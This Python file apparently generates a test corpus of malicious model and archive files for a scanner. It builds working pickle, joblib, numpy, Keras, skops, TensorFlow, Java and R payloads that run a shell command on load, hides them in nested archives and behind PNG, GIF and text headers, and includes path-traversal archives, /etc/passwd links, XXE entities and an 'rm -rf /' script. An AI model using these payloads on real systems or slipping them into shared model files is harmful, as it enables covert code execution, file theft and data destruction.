"""Evil files: each runs a command when it is read in the usual way, or hides one that does."""

import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import shutil
import signal
import struct
import tarfile
import tempfile
import zipfile
import zlib

import h5py
import numpy as np
import onnx
import zstandard
from safetensors.numpy import save as save_safetensors

import made_by_hand as made
from opcodes import COMMAND, EVIL, EVIL_0, PROTO4, RUN, call, stacked, text, whole

PYTHON = f"__import__('os').system({COMMAND!r})"
CODE = marshal.dumps(compile(PYTHON, "x", "exec"))


def files():
    """(name, kind, bytes, how it is run: pickle, numpy, joblib or None)"""
    for group in (_opcodes, _callables, _names, _memo, _order, _joblib, _numpy, _compressed, _nested, _broken_archives):
        yield from group()
    for group in (_torch, _keras, _skops, _tensorflow, _serialised, _others):
        yield from group()


def _opcodes():
    argument = b"S'" + COMMAND.encode() + b"'\n"
    popen = b"(" + text("/bin/sh") + text("-c") + text(COMMAND) + b"l"
    yield "global.pkl", "opcodes", EVIL_0, "pickle"
    yield "inst.pkl", "opcodes", b"(" + argument + b"ios\nsystem\n.", "pickle"
    yield "obj.pkl", "opcodes", b"\x80\x01(cos\nsystem\n" + argument + b"o.", "pickle"
    yield "reduce-2.pkl", "opcodes", b"\x80\x02cos\nsystem\n" + argument + b"\x85R.", "pickle"
    yield "stack-global.pkl", "opcodes", EVIL, "pickle"
    yield "popen-reduce.pkl", "opcodes", PROTO4 + stacked("subprocess", "Popen") + b"(" + popen + b"tR.", "pickle"
    yield "binunicode8.pkl", "opcodes", PROTO4 + b"\x8d" + struct.pack("<Q", 2) + b"os" + text("system") + b"\x93" + text(COMMAND) + b"\x85R.", "pickle"
    yield "set-first.pkl", "opcodes", PROTO4 + b"\x8f(K\x01K\x02\x900" + RUN + b".", "pickle"
    yield "frozenset-first.pkl", "opcodes", PROTO4 + b"(K\x01\x910" + RUN + b".", "pickle"
    yield "bytearray-first.pkl", "opcodes", b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc0" + RUN + b".", "pickle"
    yield "long-first.pkl", "opcodes", PROTO4 + b"\x8b" + struct.pack("<i", 300) + b"\1" * 300 + b"0" + RUN + b".", "pickle"
    yield "framed.pkl", "opcodes", PROTO4 + b"\x95" + struct.pack("<Q", len(RUN) + 1) + RUN + b".", "pickle"
    yield "extension.pkl", "opcodes", b"\x80\x02\x82\x01)R.", None
    yield "two-protos.pkl", "opcodes", PROTO4 + b"\x80\x02" + RUN + b".", "pickle"
    yield "out-of-band.pkl", "opcodes", b"\x80\x05" + RUN + b"0\x97.", "pickle"


def _callables():
    yield "exec.pkl", "callables", whole(call("builtins", "exec", PYTHON)), "pickle"
    yield "eval.pkl", "callables", whole(call("builtins", "eval", PYTHON)), "pickle"
    yield "popen.pkl", "callables", whole(call("os", "popen", COMMAND) + b"0N"), "pickle"
    yield "posix.pkl", "callables", whole(call("posix", "system", COMMAND)), "pickle"
    yield "getoutput.pkl", "callables", whole(call("subprocess", "getoutput", COMMAND)), "pickle"
    yield "timeit.pkl", "callables", whole(call("timeit", "timeit", PYTHON, "pass", stacked("time", "perf_counter"), b"K\x01")), "pickle"
    yield "profile.pkl", "callables", whole(call("cProfile", "run", PYTHON)), "pickle"
    yield "numpy-runstring.pkl", "callables", whole(call("numpy.testing._private.utils", "runstring", PYTHON, b"}")), "pickle"
    yield "pipepager.pkl", "callables", whole(call("pydoc", "pipepager", "", COMMAND)), "pickle"
    yield "loads.pkl", "callables", whole(call("pickle", "loads", b"B" + struct.pack("<I", len(EVIL)) + EVIL)), "pickle"
    yield "c-loads.pkl", "callables", whole(call("_pickle", "loads", b"B" + struct.pack("<I", len(EVIL)) + EVIL)), "pickle"
    getter = call("builtins", "getattr", call("builtins", "__import__", "os"), "system")
    yield "getattr.pkl", "callables", whole(getter + text(COMMAND) + b"\x85R"), "pickle"
    caller = call("operator", "methodcaller", "system", COMMAND) + call("builtins", "__import__", "os") + b"\x85R"
    yield "methodcaller.pkl", "callables", whole(caller), "pickle"
    partial = call("functools", "partial", stacked("os", "system"), COMMAND) + b")R"
    yield "partial.pkl", "callables", whole(partial), "pickle"
    function = call("types", "FunctionType", call("marshal", "loads", b"B" + struct.pack("<I", len(CODE)) + CODE), b"}") + b")R"
    yield "marshal.pkl", "callables", whole(function), "pickle"
    yield "map.pkl", "callables", whole(call("builtins", "list", call("builtins", "map", stacked("os", "system"), b"](" + text(COMMAND) + b"e"))), "pickle"
    yield "run-path.pkl", "callables", whole(call("runpy", "run_path", "/nonexistent")), None
    yield "wrapped.pkl", "callables", whole(call("sklearn.utils.parallel", "_FuncWrapper", stacked("os", "system")) + text(COMMAND) + b"\x85R"), None
    yield "attribute.pkl", "callables", whole(call("operator", "attrgetter", "system") + call("builtins", "__import__", "os") + b"\x85R" + text(COMMAND) + b"\x85R"), "pickle"


def _names():
    yield "dotted-sklearn.pkl", "dotted names", whole(call("sklearn", "os.system", COMMAND)), None
    yield "dotted-joblib.pkl", "dotted names", whole(call("joblib.numpy_pickle", "os.system", COMMAND)), "pickle"
    yield "dotted-collections.pkl", "dotted names", whole(call("shutil", "os.system", COMMAND)), "pickle"
    yield "upper-case.pkl", "dotted names", whole(call("sklearn.utils.parallel", "Parallel", b"K\x01")), None
    yield "escaped.pkl", "names from data", PROTO4 + b"Vo\\u0073\n" + text("system") + b"\x93" + text(COMMAND) + b"\x85R.", "pickle"
    yield "string-escape.pkl", "names from data", PROTO4 + b"S'o\\x73'\n" + text("system") + b"\x93" + text(COMMAND) + b"\x85R.", "pickle"
    made_name = call("builtins", "str", "system")
    yield "computed.pkl", "names from data", PROTO4 + text("os") + made_name + b"\x93" + text(COMMAND) + b"\x85R.", "pickle"
    decoded = call("builtins", "str", b"C\x02os", text("ascii"))
    yield "decoded.pkl", "names from data", PROTO4 + decoded + text("system") + b"\x93" + text(COMMAND) + b"\x85R.", "pickle"
    harmless = b"".join(stacked("collections", "OrderedDict") + b"0" for _ in range(2_000))
    yield "past-the-cap.pkl", "names past a cap", PROTO4 + harmless + RUN + b".", "pickle"
    distinct = b"".join(text(f"n{nth}") + b"0" for nth in range(20_000))
    yield "past-many-texts.pkl", "names past a cap", PROTO4 + distinct + RUN + b".", "pickle"


def _memo():
    hidden = text("collections") + b"q\x01q\x010" + text("os") + b"\x940h\x01" + text("system") + b"\x93"
    yield "put-and-memoize.pkl", "memo", PROTO4 + hidden + text(COMMAND) + b"\x85R.", "pickle"
    again = text("os") + b"\x940" + text("system") + b"\x940h\0h\x01\x93"
    yield "from-memo.pkl", "memo", PROTO4 + again + text(COMMAND) + b"\x85R.", "pickle"
    swapped = text("collections") + text("OrderedDict") + b"00" + text("os") + text("system") + b"\x93"
    yield "popped.pkl", "memo", PROTO4 + swapped + text(COMMAND) + b"\x85R.", "pickle"
    doubled = text("os") + b"2" + b"0" + text("system") + b"\x93"
    yield "duplicated.pkl", "memo", PROTO4 + doubled + text(COMMAND) + b"\x85R.", "pickle"


def _order():
    yield "broken-off.pkl", "damaged", EVIL[:-1], "pickle"
    yield "garbage-after.pkl", "damaged", PROTO4 + RUN + b"\xff\xff\xff", "pickle"
    yield "bytes-after.pkl", "damaged", EVIL + b"\0\1\2 padding", "pickle"
    yield "second.pkl", "several pickles", b"\x80\x02N." + EVIL, "second"
    yield "third-text.pkl", "several pickles", b"I1\n.I2\n." + EVIL_0, "third"
    yield "text-like.txt", "disguised", EVIL_0, "pickle"
    yield "comment-like.md", "disguised", b"(dp0\nS'# A model'\np1\nS'of trees'\np2\ns0" + EVIL_0, "pickle"
    yield "picture.png", "disguised", EVIL, "pickle"


def _joblib():
    wrapper = stacked("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"

    def array(kind, shape=b"K\x03\x85", kind_bytes=None):
        dtype = kind_bytes or stacked("numpy", "dtype") + text(kind) + b"\x89\x88\x87R"
        state = text("subclass") + stacked("numpy", "ndarray") + text("shape") + shape + text("order") + text("C")
        state += text("dtype") + dtype + text("allow_mmap") + b"\x88" + text("numpy_array_alignment_bytes") + b"N"
        return PROTO4 + b"(" + wrapper + b"}(" + state + b"ub"

    data = bytes(24)
    yield "after-array.joblib", "joblib", array("f8") + data + RUN + b"t.", "joblib"
    yield "object-array.joblib", "joblib", array("O8") + EVIL + b"t.", "joblib"
    # To joblib these are numbers; to pickle.load they are opcodes.
    opcodes = (b"0" + RUN + b".").ljust(80, b".")
    yield "array-of-opcodes.joblib", "joblib", array("u1", b"K\x50\x85") + opcodes + b"t.", "pickle"
    # The state of the type makes its items smaller than its name says: what looks like the rest of the array are opcodes.
    shrunk = stacked("numpy", "dtype") + text("V64") + b"\x89\x88\x87R(K\x03" + text("|") + b"NNNK\x01K\x01K\0tb"
    yield "smaller-items.joblib", "joblib", array("f8", kind_bytes=shrunk, shape=b"K\x01\x85") + (b"\xff" + RUN + b"t.").ljust(64, b".") + b"t.", "joblib"
    # A size that numbers of 64 bits cannot hold.
    huge = b"\x8a\x09" + (1 << 64).to_bytes(9, "little") + b"\x85"
    yield "overflow.joblib", "joblib", array("f8", huge) + RUN + b"t.", None
    for name, pack in {"zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}.items():
        yield f"evil-{name}.joblib", "compressed", pack(EVIL), "joblib"
    yield "evil-lzma.joblib", "compressed", lzma.compress(EVIL, lzma.FORMAT_ALONE), "joblib"


def _numpy():
    class Evil:
        def __reduce__(self):
            return os.system, (COMMAND,)

    objects = np.array([Evil()], dtype=object)
    for version in ((1, 0), (2, 0), (3, 0)):
        file = io.BytesIO()
        np.lib.format.write_array(file, objects, version)
        yield f"objects-{version[0]}.npy", "object arrays", file.getvalue(), "numpy"
    padded = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + b" " * 8_000 + b"\n"
    yield "long-header.npy", "object arrays", b"\x93NUMPY\x02\0" + struct.pack("<I", len(padded)) + padded + EVIL, "numpy"
    fields = np.zeros(1, dtype=[("a", "<i4"), ("b", "O")])
    fields["b"][0] = Evil()
    file = io.BytesIO()
    np.save(file, fields, allow_pickle=True)
    yield "field.npy", "object arrays", file.getvalue(), "numpy"
    file = io.BytesIO()
    np.savez_compressed(file, fine=np.zeros(3), evil=objects)
    yield "evil.npz", "object arrays", file.getvalue(), "numpy"
    file = io.BytesIO()
    np.save(file, np.zeros(3))
    yield "pickle-after-array.npy", "object arrays", file.getvalue() + EVIL, None
    # numpy.load unpickles what has no mark of its own.
    yield "only-a-pickle.npy", "object arrays", EVIL, "numpy"


def _compressed():
    yield "evil.pkl.zst", "compressed", zstandard.compress(EVIL), None
    yield "twice.gz.gz", "compressed", gzip.compress(gzip.compress(EVIL)), None
    yield "two-members.gz", "compressed", gzip.compress(EVIL_0[:6]) + gzip.compress(EVIL_0[6:]), None
    yield "without-its-sum.joblib", "compressed", zlib.compress(EVIL)[:-3], None
    yield "bytes-after.gz", "compressed", gzip.compress(b"text\n") + EVIL, None


def _zip(entries, method=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return file.getvalue()


def _tar(entries, mode="w"):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode=mode) as archive:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def _nested():
    inner = _zip([("model.pkl", EVIL)])
    yield "model.zip", "nested", inner
    yield "zip-in-zip.zip", "nested", _zip([("inner.zip", inner)])
    yield "tar-gz-in-zip.zip", "nested", _zip([("inner.tar.gz", gzip.compress(_tar([("a.pkl", EVIL)])))])
    yield "zip-in-tar-xz.tar.xz", "nested", lzma.compress(_tar([("inner.zip", inner)]))
    yield "bz2-in-tar.tar", "nested", _tar([("a.bz2", bz2.compress(EVIL))])
    yield "stored.zip", "nested", _zip([("model.pkl", EVIL)], zipfile.ZIP_STORED)
    yield "lzma-method.zip", "nested", _zip([("model.pkl", EVIL)], zipfile.ZIP_LZMA)
    deep = inner
    for _ in range(6):
        deep = _zip([("next.zip", deep)])
    yield "too-deep.zip", "nested", deep
    yield "behind-text.txt", "zips behind text", b"A harmless text.\n" * 20 + inner
    yield "behind-picture.png", "zips behind text", b"\x89PNG\r\n\x1a\n" + bytes(100) + inner
    yield "behind-pickle.pkl", "zips behind text", pickle.dumps([1, 2], 4) + inner


def _broken_archives():
    plain = _zip([("model.pkl", EVIL)], zipfile.ZIP_STORED)
    entry = plain.index(b"PK\x01\x02")
    flagged = bytearray(plain)
    flagged[6] |= 1
    flagged[entry + 8] |= 1
    yield "encrypted.zip", "broken archives", bytes(flagged)
    summed = bytearray(plain)
    summed[14] ^= 0xFF
    summed[entry + 16] ^= 0xFF
    yield "wrong-crc.zip", "broken archives", bytes(summed)
    yield "cut-off.zip", "broken archives", plain[:-30]
    # A reader of streams sees the first entry, one of the directory the second.
    fine = _zip([("readme.txt", "fine")], zipfile.ZIP_STORED)
    hidden = plain[:entry] + fine
    yield "hidden-entry.zip", "broken archives", hidden
    twice = bytearray(_zip([("a", "x"), ("b", EVIL)], zipfile.ZIP_STORED).replace(b"\0b", b"\0a"))
    yield "other-name.zip", "broken archives", bytes(twice)
    yield "climbing.zip", "broken archives", _zip([("../../etc/cron.d/job", "* * * * * root true\n")])
    yield "climbing.tar", "broken archives", _tar([("../../.bashrc", b"true\n")])
    link = io.BytesIO()
    with tarfile.open(fileobj=link, mode="w") as archive:
        info = tarfile.TarInfo("weights")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(info)
    yield "link.tar", "broken archives", link.getvalue()
    damaged = bytearray(_tar([("fine.txt", b"fine\n"), ("model.pkl", EVIL)]))
    damaged[1024 + 150] ^= 0x01
    yield "damaged-header.tar", "broken archives", bytes(damaged)
    yield "after-the-end.tar", "broken archives", _tar([("fine.txt", b"fine\n")]) + _tar([("model.pkl", EVIL)])
    yield "closed.7z", "broken archives", b"7z\xbc\xaf'\x1c" + EVIL
    yield "closed.rar", "broken archives", b"Rar!\x1a\x07\x01\0" + EVIL
    yield "bomb.gz", "bombs", gzip.compress(bytes(30 << 20))
    yield "bomb.zip", "bombs", _zip([("zeros", bytes(30 << 20))])


def _torch():
    yield "evil.pt", "torch", made.torch_zip(b"\x80\x02cos\nsystem\n" + text(COMMAND) + b"\x85R.")
    yield "evil-storage.pt", "torch", made.torch_zip(made.torch_tensor(), EVIL)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2)
    yield "legacy.pth", "torch", magic + b"\x80\x02cos\nsystem\n" + text(COMMAND) + b"\x85R." + pickle.dumps([], 2) + bytes(40)
    yield "load-from-bytes.pt", "torch", made.torch_zip(b"\x80\x02ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(EVIL)) + EVIL + b"\x85R.")


def _keras():
    layer = made.keras_config("Lambda", function={"class_name": "__lambda__", "config": {"code": "4wEAAA=="}})
    yield "lambda.keras", "Keras", made.keras_file(layer)
    yield "import.keras", "Keras", made.keras_file(made.keras_config("system", "os"))
    function = made.keras_config("Dense", activation={"module": "keras.utils", "class_name": "function", "config": "get_file"})
    yield "get-file.keras", "Keras", made.keras_file(function)
    exec_ = made.keras_config("Dense", activation={"module": "builtins", "class_name": "function", "config": "exec"})
    yield "builtins.keras", "Keras", made.keras_file(exec_)
    yield "lambda.json", "Keras", json.dumps(layer, indent=1).encode()
    escaped = json.dumps(layer).replace("class_name", "class\\u005fname")
    yield "escaped.keras", "Keras", _zip([("config.json", escaped)])
    yield "marked.keras", "Keras", _zip([("config.json", json.dumps(layer).encode("utf-8-sig"))])
    yield "utf-16.keras", "Keras", _zip([("config.json", json.dumps(layer).encode("utf-16"))])
    yield "nested-text.json", "Keras", json.dumps({"metadata": escaped}).encode()
    file = io.BytesIO()
    with h5py.File(file, "w") as hdf5:
        hdf5.attrs["model_config"] = json.dumps(layer)
    yield "lambda.h5", "Keras", file.getvalue()
    file = io.BytesIO()
    with h5py.File(file, "w") as hdf5:
        hdf5["elsewhere"] = h5py.ExternalLink("/etc/passwd", "/x")
    yield "link.h5", "Keras", file.getvalue()
    file = io.BytesIO()
    with h5py.File(file, "w") as hdf5:
        hdf5.attrs["TITLE"] = np.bytes_(EVIL_0)
    yield "attribute.h5", "Keras", file.getvalue()


def _skops():
    run = made.skops_node("FunctionNode", "os", "system", content="os.system")
    yield "function.skops", "skops", made.skops_file(run)
    yield "reduce.skops", "skops", made.skops_file(made.skops_node("ConstructorFromReduceNode", "subprocess", "Popen"))
    hidden = made.skops_node("DictNode", "builtins", "dict", content={"a": run})
    yield "hidden.skops", "skops", made.skops_file(hidden)
    call = made.skops_node("OperatorFuncNode", "operator", "methodcaller", attrs=made.skops_node("TupleNode", "builtins", "tuple", content=[]))
    yield "methodcaller.skops", "skops", made.skops_file(call)
    unnamed = made.skops_node("ObjectNode", ["os"], "system")
    yield "unnamed.skops", "skops", made.skops_file(unnamed)
    yield "utf-16.skops", "skops", _zip([("schema.json", json.dumps(run).encode("utf-16"))])
    array = io.BytesIO()
    np.save(array, np.array([{"a": 1}], dtype=object), allow_pickle=True)
    pickled = array.getvalue().split(b"\x80", 1)[0] + EVIL
    yield "array.skops", "skops", made.skops_file(made.skops_node("NdArrayNode", "numpy", "ndarray", type="numpy", file="1.npy"), {"1.npy": pickled})


def _tensorflow():
    yield "py-func.zip", "TensorFlow", made.saved_model_zip(["Placeholder", "PyFunc"])
    yield "read-file.pb", "TensorFlow", made.saved_model(["Const", "ReadFile"])
    yield "in-function.pb", "TensorFlow", made.saved_model(["Const"], ["WriteFile"])
    yield "frozen.pb", "TensorFlow", made.graph(["Const", "EagerPyFunc"])
    yield "keras_metadata.pb", "TensorFlow", made.keras_metadata(made.keras_config("Lambda"))


def _serialised():
    yield "object.ser", "Java", made.java_object()
    yield "object.zip", "Java", _zip([("model.bin", made.java_object())])
    yield "object.gz", "Java", gzip.compress(made.java_object())
    yield "promise.rds", "R", gzip.compress(made.r_promise())
    yield "promise.rda", "R", b"RDX2\n" + made.r_promise()
    yield "byte-code.rds", "R", made.r_header() + struct.pack(">ii", 21, 1)
    yield "pointer.rds", "R", bz2.compress(made.r_header() + struct.pack(">i", 22) + struct.pack(">ii", 254, 254))
    yield "text.rds", "R", b"A\n2\n263168\n131840\n5\n"


def _others():
    helper, kind = onnx.helper, onnx.TensorProto.FLOAT
    for name, location in {"external.onnx": "../../etc/passwd", "absolute.onnx": "/etc/passwd"}.items():
        tensor = onnx.TensorProto(name="w", data_type=kind, dims=[1], data_location=onnx.TensorProto.EXTERNAL)
        tensor.external_data.add(key="location", value=location)
        graph = helper.make_graph([helper.make_node("Relu", ["w"], ["y"])], "g", [], [helper.make_tensor_value_info("y", kind, [1])], [tensor])
        yield name, "ONNX", helper.make_model(graph).SerializeToString()
    fine = save_safetensors({"a": np.zeros(3, dtype=np.float32)})
    yield "bytes-after.safetensors", "safetensors", fine + EVIL
    yield "entity.pmml", "PMML", b'<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML>&x;</PMML>\n'
    entity = '<?xml version="1.0" encoding="utf-16"?>\n<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML>&x;</PMML>\n'
    yield "entity-utf-16.pmml", "PMML", entity.encode("utf-16")
    # The number of a GIF picture's mark, to pickle, then opcodes.
    yield "gif-and-pickle.gif", "disguised", b"GIF89a\1\0\1" + EVIL_0, "pickle"
    yield "program", "programs", b"\x7fELF\2\1\1" + bytes(57)
    yield "compiled.pyc", "programs", b"\xa7\r\r\n" + bytes(12) + CODE
    yield "install.sh", "programs", b"#!/usr/bin/env bash\nrm -rf /\n"
    yield "unknown.bin", "unknown", bytes(range(256))


def run_all(listed):
    """Runs each evil file once in an interpreter of its own; `ran` says whether its command did."""
    folder = tempfile.mkdtemp()
    for nth, file in enumerate(item for item in listed if item["verdict"] == "evil" and item["loader"]):
        mark = os.path.join(folder, str(nth))
        child = os.fork()
        if child == 0:
            _run(file, mark)
        os.waitpid(child, 0)
        file["ran"] = os.path.exists(mark)
    shutil.rmtree(folder)


def _run(file, mark):
    os.environ["EVIL_MARK"] = mark
    signal.alarm(20)
    silence = os.open(os.devnull, os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(silence, descriptor)
    try:
        _load(file["path"], file["loader"])
    finally:
        _wait_for_children()
        os._exit(0)


def _wait_for_children():
    """os.popen and subprocess.Popen return before their command has run: on a busy machine the mark came too late."""
    while True:
        try:
            os.waitpid(-1, 0)
        except ChildProcessError:
            return


def _load(path, loader):
    if loader == "numpy":
        loaded = np.load(path, allow_pickle=True)
        if hasattr(loaded, "files"):
            [loaded[name] for name in loaded.files]
    elif loader == "joblib":
        import joblib

        joblib.load(path)
    else:
        with open(path, "rb") as file:
            for _ in range({"pickle": 1, "second": 2, "third": 3}[loader]):
                pickle.load(file)
